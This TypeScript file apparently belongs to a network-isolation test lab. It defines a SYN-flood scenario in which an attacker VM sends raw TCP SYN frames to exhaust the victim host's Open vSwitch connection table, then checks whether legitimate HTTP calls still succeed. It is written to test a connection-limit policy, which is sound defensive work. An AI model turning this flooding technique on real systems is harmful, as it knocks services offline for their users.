import type { Attack } from '../src/attack.ts';
import { ETHERTYPE, ethernetFrame, ipv4Packet, PROTOCOL } from '../src/frames.ts';
import type { Lab } from '../src/lab.ts';
import { tcpSegment } from '../src/odd-frames.ts';
import { runInHostOk } from '../src/spawn.ts';
import { httpStatus, whileFlooding } from '../src/tools.ts';
import { addressOf, type VmSpec } from '../src/vm/spec.ts';
import { guestExec, guestOk, hostOf } from '../src/vm/vm.ts';
import { waitFor } from '../src/wait.ts';

/** Connections that the victim's host has room for, and Open vSwitch's own bound. */
const ROOM = 500;
const ALL_ROOM = 3_000_000;
/** Ports to begin connections from, again and again: conntrack keeps what is half open for 30 s. */
const FLOOD = { ports: 1_000, seconds: 180 };
/** What has not filled the table after so many rounds never does. */
const ROUNDS = 5;
const FILL_MS = 90_000;
/** On a busy machine a call may fail by itself. */
const CALLS = 6;
const ENOUGH = 2;

export const synFlood: Attack = {
  id: 'syn-flood',
  title: 'A VM begins connections that it never goes on with, until the host can remember no others',
  protects: 'limit of new connections',
  needsPolicy: true,
  async run({ lab, cast: { attacker, victim, peer, httpPort }, policy }) {
    const table = connectionTable(lab, await hostOf(lab, victim.name));
    const call = () => httpStatus(lab, peer.name, addressOf(victim.ipv4), httpPort);
    try {
      await policy?.bound(attacker.name, [attacker.name, peer.name], victim.name, httpPort);
      await silence(lab, attacker, victim);
      const control = await waitFor('an honest call is answered', call, { timeoutMs: 60_000 }).catch(() => undefined);
      // What it knew from before, and forgets meanwhile, would make room again and again.
      await table.empty();
      await table.bound(ROOM);
      const isFull = async () => (await table.count()) >= ROOM;
      const frame = segment(attacker, victim, httpPort);
      const answered = await whileFlooding(lab, attacker.name, { ...FLOOD, frame }, async (rounds) => {
        const isOver = async () => (await isFull()) || (await rounds()) >= ROUNDS;
        await waitFor('the table is full, or does not become so', isOver, { timeoutMs: FILL_MS, everyMs: 200 });
        let answered = 0;
        for (let n = 0; n < CALLS && answered < ENOUGH; n++) if ((await call()) !== undefined) answered++;
        return answered;
      });
      const held = await table.count();
      return {
        succeeded: answered < ENOUGH,
        control: control !== undefined,
        evidence: `${victim.name} answered ${answered} of at most ${CALLS} calls of ${peer.name} while ${attacker.name} flooded it; its host held ${held} of at most ${ROOM} connections`,
      };
    } finally {
      await table.bound(ALL_ROOM);
      await guestExec(lab, attacker.name, ['ip', 'route', 'del', 'blackhole', addressOf(victim.ipv4)]);
      await policy?.revoke();
    }
  },
};

/** Or the attacker's own kernel would end what the victim answers: it knows of no such connection. Raw frames ask no route. */
async function silence(lab: Lab, attacker: VmSpec, victim: VmSpec): Promise<void> {
  await guestOk(lab, attacker.name, ['ip', 'route', 'replace', 'blackhole', addressOf(victim.ipv4)]);
}

/** From its own address, or it would end at its port. */
function segment(from: VmSpec, to: VmSpec, targetPort: number): Buffer {
  const ends = { source: addressOf(from.ipv4), target: addressOf(to.ipv4) };
  const syn = tcpSegment({ ...ends, sourcePort: 20_000, targetPort, flags: ['syn'], data: '' });
  return ethernetFrame({ from: from.mac, to: to.mac }, ETHERTYPE.ipv4, ipv4Packet(ends, PROTOCOL.tcp, syn));
}

/** A host's table of connections, which a guest of a small lab cannot fill as it is. */
function connectionTable(lab: Lab, host: string) {
  const dpctl = (command: string, ...argv: string[]) =>
    runInHostOk(lab, host, ['ovs-appctl', `dpctl/${command}`, ...argv]);
  return {
    count: async () => Number.parseInt(await dpctl('ct-get-nconns'), 10),
    bound: (most: number) => dpctl('ct-set-maxconns', String(most)),
    empty: () => dpctl('flush-conntrack'),
  };
}
